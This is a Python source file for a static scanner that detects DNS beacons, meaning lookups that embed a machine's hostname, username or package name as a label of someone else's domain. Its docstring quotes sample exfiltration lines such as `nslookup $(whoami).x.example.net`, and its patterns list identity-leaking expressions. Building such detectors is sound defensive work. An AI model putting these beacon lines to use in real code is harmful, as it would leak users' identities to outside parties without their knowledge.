"""DNS beacons: a host name built from the machine's identity, or the package's own name,
as a label of someone else's domain. Resolving `alice.build-07.pkg.x.oast.fun` tells the
domain's owner who installed the package where, with no HTTP request to see: the
dependency-confusion probe's favourite channel.

Found as code (`f"{socket.gethostname()}.x.example.net"`, `os.hostname() + ".x.io"`),
as a shell command (`nslookup $(whoami).x.example.net`), or as a DNS call whose
argument is traced back to both halves. Names under private suffixes (.local,
.internal...) are the host's own network; names under the package's own domain are its
own; neither counts.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator

from analyzer.detect.static.interface import KindInfo, Reads, Scanner, text_check
from analyzer.detect.static.secrets import is_entry_file
from analyzer.detect.static.text import Lang, SourceFile, balanced, display
from analyzer.signals import FileRole, SignalKind, StaticSignal

# Literals one of which any identity expression holds (lower case), and that any DNS
# lookup holds: cheap tests before the patterns.
_IDENTITY_HINTS = ("gethostname", "getuser", "getlogin", "platform.node", "uname", "getfqdn",
                   "os.hostname", "userinfo", "whoami", "hostname)", "$(", "`hostname",
                   "$hostname", "${hostname", "$user", "${user", "$logname", "%username%",
                   "%computername%", "%userdomain%", "$env:", "environ", "getenv",
                   "process.env.")  # fmt: skip
_DNS_HINTS = ("gethostbyname", "getaddrinfo", "resolver.", "dns.", "nslookup", "dig ",
              "host ", "ping ", "resolve-dnsname")  # fmt: skip
# Host identity as code (Python, JavaScript) and as shell or batch expansions.
_IDENTITY_CODE = (
    r"(?:socket\.)?gethostname\(\)|platform\.node\(\)|(?:getpass\.)?getuser\(\)"
    r"|(?:os\.)?getlogin\(\)|os\.uname\(\)(?:\[1\]|\.nodename)|getfqdn\(\)"
    r"|os\.(?:environ(?:\.get)?|getenv)[(\[]\s*['\"](?:USER|USERNAME|LOGNAME|HOSTNAME|COMPUTERNAME"
    r"|USERDOMAIN)['\"]\s*[)\]]|os\.hostname\(\)|os\.userInfo\(\)\.username"
    r"|process\.env\.(?:USER|USERNAME|LOGNAME|HOSTNAME|COMPUTERNAME|USERDOMAIN)\b"
)
_IDENTITY_SHELL = (
    r"\$\(\s*(?:hostname|whoami|id\s+-un|uname\s+-n|logname)\s*\)|`(?:hostname|whoami|uname -n)`"
    r"|\$\{?(?:HOSTNAME|USER|LOGNAME)\}?|%(?:USERNAME|COMPUTERNAME|USERDOMAIN)%"
    r"|(?i:\$env:(?:USERNAME|COMPUTERNAME|USERDOMAIN))"
)
# Common generic TLDs; every two-letter one is a country's.
_GTLDS = (
    "com|net|org|info|biz|io|co|me|xyz|site|online|top|fun|pro|live|app|dev|cloud|club|shop"
    "|store|tech|space|website|link|click|icu|buzz|work|life|world|today|cc|tk|ml|ga|cf|gq"
    "|pw|ws|su|run|sh|gg|lol|rest|host|services|network|digital|email|zone|ninja|page|one"
)
_DOMAIN = rf"((?:[a-z0-9-]+\.)+(?:{_GTLDS}|[a-z]{{2}}))(?![\w-])"
_PRIVATE = (".local", ".localdomain", ".lan", ".internal", ".home", ".arpa", ".localhost",
            ".test", ".example", ".invalid")  # fmt: skip
# After an identity expression: the rest of an f-string or template field, or a
# concatenation, then a dot and a literal domain (`{gethostname()}.x.io`,
# `getuser() + ".x.io"`, `$(hostname).x.io`).
_LABEL_OF = re.compile(rf"(?i)(?:[^{{}}\n]{{0,20}}\}}|\s*\+\s*['\"`])?\.{_DOMAIN}")
_PY_DNS = re.compile(
    r"\b(?:gethostbyname(?:_ex)?|getaddrinfo)\s*\(|\bresolver\.(?:resolve|query)\s*\("
    r"|\bdns\.resolver\.(?:resolve|query)\s*\("
)
_JS_DNS = re.compile(r"\bdns\.(?:promises\.)?(?:lookup|resolve\w*)\s*\(")
# The tools as typed (lower case; PowerShell's in any case), then a target that is a host
# name or an expansion: "Host name of the runner" is prose, not a lookup.
_TARGET = r"([^\s'\"`;|&)]*[.$%`{][^\s'\"`;|&)]*)"
_SHELL_DNS = re.compile(
    rf"\b(?:nslookup|dig|host|ping|(?i:resolve-dnsname))\s+(?:-\S+\s+)*{_TARGET}"
)
_QUOTED_SHELL_DNS = re.compile(
    rf"['\"`]\s*(?:nslookup|dig|host|ping|(?i:resolve-dnsname))\s+(?:-\S+\s+)*{_TARGET}"
)
_IDENTITY = re.compile(rf"(?i){_IDENTITY_CODE}|{_IDENTITY_SHELL}")
_IDENT = re.compile(r"[A-Za-z_$][\w$]*")
_STRING = re.compile(r"""[rbfuRBFU]{0,2}(['"`])((?:[^'"`\\\n]|\\.)*)\1""")


def check_dns_beacon(src: SourceFile) -> Iterator[StaticSignal]:
    if src.role not in (FileRole.INSTALL, FileRole.CODE, FileRole.TEST):
        return
    for m in itertools.islice(_identities(src), 200):
        label = _LABEL_OF.match(src.text, m.end(), m.end() + 200)
        if label is None:
            continue
        domain = label.group(1).lower()
        if _foreign(src, domain) and not src.is_comment(m.start()):
            shown = display(src.text[m.start() : label.end()][:120])
            detail = f"a DNS name with the host's identity as a label of {domain}: {shown}"
            yield src.signal(SignalKind.DNS_BEACON, m.start(), detail)
            return
    found = _dns_calls(src) if src.has(*_DNS_HINTS) else None
    if found is not None:
        yield found


def _identities(src: SourceFile) -> Iterator[re.Match[str]]:
    """Identity expressions, found from their literal parts (a search of the whole text
    for the pattern costs more than the rest of this check)."""
    lower, last = src.lower, -1
    for hint in _IDENTITY_HINTS:
        at = lower.find(hint)
        while at != -1:
            m = _IDENTITY.search(src.text, max(0, at - 12, last), at + 80)
            if m is not None and m.start() <= at + len(hint):
                last = m.end()
                yield m
            at = lower.find(hint, at + len(hint))


def _foreign(src: SourceFile, domain: str) -> bool:
    """A public domain that is not the package's own."""
    if any(domain.endswith(p) for p in _PRIVATE) or domain.count(".") < 1:
        return False
    registrable = ".".join(domain.split(".")[-2:])
    if any(registrable == h or h.endswith("." + registrable) for h in src.package.hosts):
        return False
    return registrable.split(".")[0] not in src.package.names


def _dns_calls(src: SourceFile) -> StaticSignal | None:
    """DNS lookups whose argument (or what its names were assigned) joins host identity,
    or the package's name, to a literal foreign domain."""
    api = {Lang.PYTHON: _PY_DNS, Lang.JS: _JS_DNS}.get(src.lang)
    calls = [(m.start(), balanced(src.text, m.end() - 1, 600, strings=True), False)
             for m in (api.finditer(src.text) if api else ())]
    # In code, a command line is a string: the tool's name opens it.
    shell = _SHELL_DNS if src.lang not in (Lang.PYTHON, Lang.JS) else _QUOTED_SHELL_DNS
    if src.has("nslookup", "dig ", "host ", "ping ", "resolve-dnsname"):
        for m in itertools.islice(shell.finditer(src.text), 50):
            end = src.text.find("\n", m.start(1))
            calls.append((m.start(), src.text[m.start(1) : end if end != -1 else None], True))
    name_labels = src.role is FileRole.INSTALL or is_entry_file(src.path)
    for start, window, command in calls[:50]:
        if src.is_comment(start):
            continue
        pieces = _expand(src, window[:400])
        domains = [d for d in _domains(pieces, command) if _foreign(src, d)]
        if not domains:
            continue
        if _IDENTITY.search(pieces):
            detail = f"resolves a name joining host identity to {domains[0]}"
            return src.signal(SignalKind.DNS_BEACON, start, detail)
        if name_labels:
            for domain in domains:
                labels = domain.split(".")
                if any(label in src.package.names and len(label) >= 3 for label in labels[:-2]):
                    detail = f"resolves {domain}: the package's name as a label of another domain"
                    return src.signal(SignalKind.DNS_BEACON, start, detail)
    return None


def _expand(src: SourceFile, window: str, depth: int = 2) -> str:
    """The window with what its names were assigned appended, a few hops deep."""
    parts, frontier, seen = [window], [window], set()
    for _ in range(depth):
        following = []
        for text in frontier:
            for name in dict.fromkeys(_IDENT.findall(text[:400])):
                if name in seen or len(name) < 2:
                    continue
                seen.add(name)
                following.extend(src.assignments.get(name, [])[:2])
        parts.extend(following)
        frontier = following
    return "\n".join(parts)


def _domains(code: str, command: bool) -> list[str]:
    """Domain names written in the string literals of `code` (f-string fields removed),
    or, for a command line, in its words."""
    found = []
    for m in _STRING.finditer(code):
        literal = re.sub(r"\$?\{[^{}]*\}", "", m.group(2)).lower()
        if re.search(r"\s", literal.strip()):
            continue  # prose (a docstring, a message): a host name has no spaces
        found += re.findall(rf"(?<![\w-]){_DOMAIN}", literal.lstrip("."))
        found += re.findall(rf"\.{_DOMAIN}", literal)
    if command:
        words = re.sub(r"\$\(|\)|`|\$\{|\}|%", " ", code.lower())
        found += re.findall(rf"(?<![\w-]){_DOMAIN}", words)
        found += re.findall(rf"\.{_DOMAIN}", words)
    return list(dict.fromkeys(found))


DNS_BEACON = Scanner(
    name="dns-beacon",
    check=text_check(check_dns_beacon),
    reads=frozenset({Reads.SOURCE, Reads.DECODED, Reads.MANIFEST}),
    roles=frozenset({FileRole.INSTALL, FileRole.CODE, FileRole.TEST}),
    kinds={
        SignalKind.DNS_BEACON: KindInfo(
            "resolves a DNS name that carries the host's identity or the package's name as a "
            "label of someone else's domain",
            strong=True,
        ),
    },
)
